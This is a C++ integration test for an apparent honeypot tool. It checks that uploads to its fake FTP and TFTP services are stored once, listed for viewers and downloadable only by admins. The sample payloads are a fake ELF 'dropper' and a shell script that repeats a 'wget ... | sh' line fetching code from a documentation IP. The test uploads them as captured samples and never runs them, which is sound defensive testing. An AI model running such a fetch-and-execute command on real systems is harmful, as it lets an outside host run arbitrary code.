// `decnet up` with ftp and tftp and its REST API (issue #12 item 4): curl uploads a payload
// over FTP twice and tftp-hpa one over TFTP; each lands once in <state dir>/artifacts/, a
// viewer lists both through GET /artifacts but may not download, and an admin downloads
// the exact bytes as an attachment. Loopback subnet 127.134.0.0/24, API port 18420.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <thread>

#include "integration/api_client.hpp"
#include "integration/background_process.hpp"
#include "integration/cli_runner.hpp"
#include "integration/stored_logs.hpp"
#include "store/repository.hpp"

namespace decnet::testing {
namespace {

using ::testing::HasSubstr;
using json = nlohmann::json;

constexpr const char* kBase = "http://127.0.0.1:18420/api/v1";
constexpr const char* kPassword = "artifact-admin-pw-1";
constexpr const char* kIp = "127.134.0.1";

std::string sha256_of(const std::string& path) {
    return capture("sha256sum " + path).substr(0, 64);
}

// GET /artifacts until it lists `count` rows (the ingester stores them within ~50 ms).
json wait_for_artifacts(const std::string& token, std::size_t count) {
    json page;
    for (int i = 0; i < 100; ++i) {
        page = api_call(kBase, "GET", "/artifacts", token).second;
        if (page.is_object() && page.value("total", 0) >= static_cast<int>(count)) break;
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return page;
}

TEST(CliArtifacts, FtpAndTftpUploadsAreStoredOnceListedAndDownloadable) {
    const auto dir = make_temp_dir();
    BackgroundProcess up(
        {"/usr/bin/env", std::string("DECNET_ADMIN_PASSWORD=") + kPassword,
         "DECNET_JWT_SECRET=", DECNET_BINARY, "up", "-n", "1", "--services", "ftp,tftp", "--subnet",
         "127.134.0.0/24", "--db", dir + "/a.db", "--state-dir", dir, "--api-port", "18420"},
        dir);
    const auto banner = up.wait_for_output("decnet is up", std::chrono::seconds(30));
    ASSERT_THAT(banner, HasSubstr("127.134.0.1:21/tcp")) << up.err();
    ASSERT_THAT(banner, HasSubstr("127.134.0.1:69/udp"));

    // An ELF-looking dropper over FTP, twice (same bytes, same name); a script over TFTP.
    std::string bot = "\x7f\x45LF";
    bot += std::string("\x02\x01\x01\x00", 4);
    for (int i = 0; i < 3000; ++i) bot += static_cast<char>(i % 251);
    write_file(dir + "/bot", bot);
    std::string script = "#!/bin/sh\n";
    while (script.size() < 1300) script += "wget http://203.0.113.9/x -O- | sh\n";
    write_file(dir + "/run.sh", script);
    const auto bot_sha = sha256_of(dir + "/bot");
    const auto script_sha = sha256_of(dir + "/run.sh");
    for (int i = 0; i < 2; ++i)
        EXPECT_EQ(capture("timeout 20 curl -s -o /dev/null -w '%{http_code}' -T " + dir +
                          "/bot ftp://mallory:s3cret@" + kIp + "/bot"),
                  "226");
    EXPECT_THAT(
        capture("cd " + dir + " && timeout 10 tftp " + kIp + " -m octet -c put run.sh 2>&1"),
        ::testing::Not(HasSubstr("Error")));

    const auto admin = api_login(kBase, kPassword);
    ASSERT_FALSE(admin.empty());
    auto page = wait_for_artifacts(admin, 2);
    ASSERT_EQ(page.value("total", 0), 2) << page.dump();

    // A viewer lists them, filters them, and may not download.
    const auto created = api_call(kBase, "POST", "/config/users", admin,
                                  R"({"username":"analyst","password":"viewer-pw-123",)"
                                  R"("role":"viewer"})");
    ASSERT_EQ(created.first, 200) << created.second.dump();
    const auto viewer = api_login(kBase, "viewer-pw-123", "analyst");
    ASSERT_FALSE(viewer.empty());
    auto [list_status, list] = api_call(kBase, "GET", "/artifacts", viewer);
    ASSERT_EQ(list_status, 200) << list.dump();
    ASSERT_EQ(list["data"].size(), 2u) << list.dump();
    std::map<std::string, json> by_service;
    for (const auto& row : list["data"]) by_service[row["service"].get<std::string>()] = row;
    EXPECT_EQ(by_service["ftp"]["sha256"], bot_sha);
    EXPECT_EQ(by_service["ftp"]["size"], static_cast<int>(bot.size()));
    EXPECT_EQ(by_service["ftp"]["mime"], "application/x-executable");
    EXPECT_EQ(by_service["ftp"]["filename"], "bot");
    EXPECT_EQ(by_service["ftp"]["attacker_ip"], "127.0.0.1");
    EXPECT_EQ(by_service["ftp"]["stored"], true);
    EXPECT_EQ(by_service["tftp"]["sha256"], script_sha);
    EXPECT_EQ(by_service["tftp"]["mime"], "text/x-shellscript");
    EXPECT_EQ(by_service["tftp"]["stored"], true);
    const auto by_hash =
        api_call(kBase, "GET", "/artifacts?service=tftp&sha256=" + script_sha, viewer).second;
    EXPECT_EQ(by_hash.value("total", -1), 1) << by_hash.dump();
    EXPECT_EQ(api_call(kBase, "GET", "/artifacts/" + bot_sha, viewer).first, 403);

    // The admin downloads both, byte for byte, as attachments.
    for (const auto& [sha, original] :
         {std::pair{bot_sha, dir + "/bot"}, std::pair{script_sha, dir + "/run.sh"}}) {
        const auto headers =
            capture("curl -s -D - -o " + dir + "/" + sha + ".down -H 'Authorization: Bearer " +
                    admin + "' " + kBase + "/artifacts/" + sha);
        EXPECT_THAT(headers, HasSubstr("HTTP/1.1 200"));
        EXPECT_THAT(headers, HasSubstr("Content-Type: application/octet-stream"));
        EXPECT_THAT(headers,
                    HasSubstr("Content-Disposition: attachment; filename=\"" + sha + ".bin\""));
        EXPECT_THAT(headers, HasSubstr("X-Content-Type-Options: nosniff"));
        EXPECT_EQ(capture("cmp " + original + " " + dir + "/" + sha + ".down && echo same"),
                  "same\n");
    }
    EXPECT_EQ(api_call(kBase, "GET", "/artifacts/" + std::string(64, 'G'), admin).first, 400);

    // Each content once on disk, owner-only.
    std::vector<std::string> names;
    for (const auto& entry : std::filesystem::directory_iterator(dir + "/artifacts"))
        names.push_back(entry.path().filename());
    std::sort(names.begin(), names.end());
    std::vector<std::string> expected{bot_sha, script_sha};
    std::sort(expected.begin(), expected.end());
    EXPECT_EQ(names, expected);
    EXPECT_EQ(capture("stat -c %a " + dir + "/artifacts " + dir + "/artifacts/" + bot_sha),
              "700\n600\n");

    auto repo = store::open_sqlite(dir + "/a.db");
    EXPECT_EQ(up.stop(), 0) << up.err();
    const auto ftp_captured = stored_fields(*repo, "service:ftp event:file_captured", 50);
    ASSERT_EQ(ftp_captured.size(), 2u);  // one event per upload, one bounty per content
    EXPECT_THAT(ftp_captured[0], HasSubstr(R"("sha256":")" + bot_sha + "\""));
    EXPECT_THAT(ftp_captured[0], HasSubstr(R"("first_bytes":"7f454c4602010100)"));
    EXPECT_THAT(ftp_captured[0], HasSubstr(R"("stored":"True")"));
    EXPECT_THAT(ftp_captured[0], HasSubstr(R"("src_ip":"127.0.0.1")"));
    EXPECT_EQ(stored_fields(*repo, "service:ftp event:upload", 50).size(), 2u);
    const auto tftp_captured = stored_fields(*repo, "service:tftp event:file_captured", 50);
    ASSERT_EQ(tftp_captured.size(), 1u);
    EXPECT_THAT(tftp_captured[0], HasSubstr(R"("origin":"run.sh","filename":"run.sh")"));
}

}  // namespace
}  // namespace decnet::testing
